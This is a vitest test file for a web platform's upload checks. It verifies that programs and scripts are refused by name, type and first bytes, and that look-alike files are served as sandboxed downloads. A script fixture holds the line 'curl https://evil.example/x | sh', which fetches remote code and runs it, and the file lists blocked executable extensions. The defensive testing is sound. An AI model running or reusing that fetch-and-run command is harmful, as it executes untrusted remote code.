import { beforeAll, describe, expect, it } from 'vitest';
import { api, data, newSite, request, type Reply } from '../helpers/http';

// Issue 47: an `.exe` was accepted and published, and the site then offered its visitors a program. A
// site publishes what a shop or a blog serves (images, videos, audio, documents, fonts, 3D models, ZIP
// archives): programs and scripts are refused by name and type at presign (422 naming the allowed kinds,
// in plain words), and by their first bytes when the bytes arrive, whatever the name says; what is
// accepted and not an image is served as a download, in a sandbox.

let site: Awaited<ReturnType<typeof newSite>>;
let on: ReturnType<typeof api>;

beforeAll(async () => {
  site = await newSite('Upload kinds');
  on = api(site.host);
});

const presign = (key: string, contentType: string, size?: number) => on.post('/api/v1/storage/presign', { key, contentType, ...(size === undefined ? {} : { size }) }, { token: site.ownerToken });

// A request to an absolute URL the server answered (the site's origin), sent with that URL's host.
function to(url: string, method: string, raw?: Buffer, type?: string): Promise<Reply> {
  const u = new URL(url);
  return request(u.hostname, method, u.pathname + u.search, { raw, headers: type ? { 'content-type': type } : {} });
}

async function upload(key: string, type: string, bytes: Buffer) {
  const p = await presign(key, type, bytes.length);
  expect(p.status, p.text).toBe(200);
  const { url, publicUrl } = data(p) as { url: string; publicUrl: string };
  return { put: await to(url, 'PUT', bytes, type), publicUrl };
}

const reservedBytes = async () => (data(await on.get('/api/v1/sites/limits', { token: site.ownerToken })).storage as { reservedBytes: number }).reservedBytes;

const KINDS = 'You can upload images, videos, audio, documents (PDF, text, CSV, Word, Excel, PowerPoint, OpenDocument, EPUB), fonts, 3D models (GLB, glTF, USDZ, OBJ, STL) and ZIP archives.';

// A minimal Windows program: the MZ header whose offset at 0x3C names the PE header.
function windowsProgram(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}
const linuxProgram = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const macProgram = () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(120)]);
const script = () => Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');

describe('presign', () => {
  it('refuses programs and scripts by name, whatever type they are sent as, with 422 naming what may be uploaded', async () => {
    for (const ext of ['exe', 'msi', 'bat', 'cmd', 'com', 'scr', 'ps1', 'sh', 'dll', 'jar', 'apk', 'app', 'dmg', 'EXE', 'vbs', 'js']) {
      for (const type of ['application/octet-stream', 'application/pdf', 'image/png']) {
        const r = await presign(`tools/setup.${ext}`, type, 10);
        expect(r.status, `.${ext} as ${type}: ${r.text}`).toBe(422);
        expect(r.json?.state).toBe('error');
        expect(r.json?.data?.text).toBe(`This file is a program or a script (.${ext.toLowerCase()}), which a site cannot publish: it could harm the computers of visitors who open it. ${KINDS}`);
      }
    }
    // By type when the name says nothing, or says something harmless.
    for (const [key, type] of [
      ['tool', 'application/x-msdownload'],
      ['report.pdf', 'application/x-msdownload'],
      ['notes.txt', 'application/x-sh'],
      ['app.zip', 'application/vnd.android.package-archive'],
    ]) {
      const r = await presign(key!, type!, 10);
      expect(r.status, `${key} as ${type}`).toBe(422);
      expect(r.json?.data?.text).toMatch(/^This file is a program or a script/);
    }
  });

  it('refuses kinds a site does not publish (web pages, unknown extensions, a name without one), in plain words', async () => {
    const cases: [string, string, string][] = [
      ['page.html', 'text/html', 'Files of this kind (.html) cannot be uploaded.'],
      ['data.xyz', 'application/octet-stream', 'Files of this kind (.xyz) cannot be uploaded.'],
      ['README', 'application/octet-stream', 'This file has no extension (such as .pdf or .jpg), so its kind is unknown: give its name one and upload it again.'],
      ['photo.png', 'application/x-unknown', 'Files of this kind (application/x-unknown) cannot be uploaded.'],
    ];
    for (const [key, type, words] of cases) {
      const r = await presign(key, type, 10);
      expect(r.status, key).toBe(422);
      expect(r.json?.data?.text).toBe(`${words} ${KINDS}`);
    }
    expect(await reservedBytes()).toBe(0);
  });

  it('accepts what a shop or a blog publishes, by type or (a browser without one) by extension', async () => {
    const ok: [string, string][] = [
      ['a/photo.JPG', 'image/jpeg'],
      ['a/logo.svg', 'image/svg+xml'],
      ['a/clip.mp4', 'video/mp4'],
      ['a/clip.mov', 'video/quicktime'],
      ['a/song.mp3', 'audio/mpeg'],
      ['a/menu.pdf', 'application/pdf'],
      ['a/prices.csv', 'application/vnd.ms-excel'],
      ['a/report.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['a/font.woff2', 'application/octet-stream'],
      ['a/chair.glb', 'application/octet-stream'],
      ['a/press-kit.zip', 'application/x-zip-compressed'],
    ];
    for (const [key, type] of ok) expect((await presign(key, type, 10)).status, key).toBe(200);
  });
});

describe('the bytes', () => {
  it('refuses a program by its first bytes whatever its name and type: 422, nothing stored, nothing left set aside', async () => {
    const cases: [string, string, Buffer, string][] = [
      ['docs/invoice.pdf', 'application/pdf', windowsProgram(), 'a Windows program'],
      ['docs/notes.txt', 'text/plain', linuxProgram(), 'a Linux program'],
      ['models/chair.glb', 'application/octet-stream', macProgram(), 'a macOS or Java program'],
      ['docs/readme.txt', 'text/plain', script(), 'a script'],
      ['archive.zip', 'application/zip', windowsProgram(), 'a Windows program'],
    ];
    const before = await reservedBytes();
    for (const [key, type, bytes, what] of cases) {
      const { put, publicUrl } = await upload(key, type, bytes);
      expect(put.status, `${key}: ${put.text}`).toBe(422);
      expect(put.json?.data?.text).toBe(`This file is ${what}, which a site cannot publish whatever its name: it could harm the computers of visitors who open it. ${KINDS}`);
      expect((await to(publicUrl, 'GET')).status).toBe(404);
    }
    expect(await reservedBytes()).toBe(before);
  });

  it('keeps what merely looks alike (text starting with MZ or #, a PDF) and serves it as a download in a sandbox', async () => {
    for (const [key, type, text] of [
      ['docs/countries.csv', 'text/csv', 'MZ,Mozambique\nMW,Malawi\n'],
      ['docs/notes.md', 'text/markdown', '#! not a script\n# Notes\n'],
      ['docs/menu.pdf', 'application/pdf', '%PDF-1.4\n%%EOF\n'],
    ]) {
      const { put, publicUrl } = await upload(key!, type!, Buffer.from(text!));
      expect(put.status, `${key}: ${put.text}`).toBe(200);
      const got = await to(publicUrl, 'GET');
      expect(got.status).toBe(200);
      expect(got.text).toBe(text);
      expect(got.headers['content-disposition']).toMatch(/^attachment; filename="/);
      expect(got.headers['content-security-policy']).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
      expect(got.headers['x-content-type-options']).toBe('nosniff');
    }
  });
});
